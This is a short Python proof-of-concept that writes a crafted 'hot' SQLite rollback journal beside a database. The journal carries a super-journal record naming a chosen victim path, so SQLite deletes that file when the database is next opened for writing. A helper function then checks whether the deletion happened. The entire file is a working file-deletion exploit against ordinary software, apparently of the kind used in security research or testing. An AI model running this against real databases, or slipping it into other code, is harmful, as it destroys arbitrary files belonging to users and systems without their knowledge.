"""A rollback journal by which SQLite deletes a file anywhere, once the database beside it is opened for writing."""

from __future__ import annotations

import contextlib
import sqlite3
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")


def add_super_journal(database: Path, victim: Path) -> Path:
    """Write a hot journal beside a database whose record of a super-journal names `victim`; return the journal."""
    with contextlib.closing(sqlite3.connect(f"file:{database}?mode=ro", uri=True)) as connection:
        ((page_size,),) = connection.execute("PRAGMA page_size")
    pages, name = database.stat().st_size // page_size, str(victim).encode()
    header = (MAGIC + struct.pack(">IIIII", 0, 0, pages, 512, page_size)).ljust(512, b"\0")
    record = struct.pack(">I", 0x40000000 // page_size + 1) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(header + record)
    return journal


def deletes(database: Path, victim: Path) -> bool:
    """Return whether opening the database for writing deletes the victim, as SQLite does."""
    with contextlib.closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA journal_mode = WAL")
        connection.execute("SELECT count(*) FROM sqlite_schema").fetchone()
    return not victim.exists()
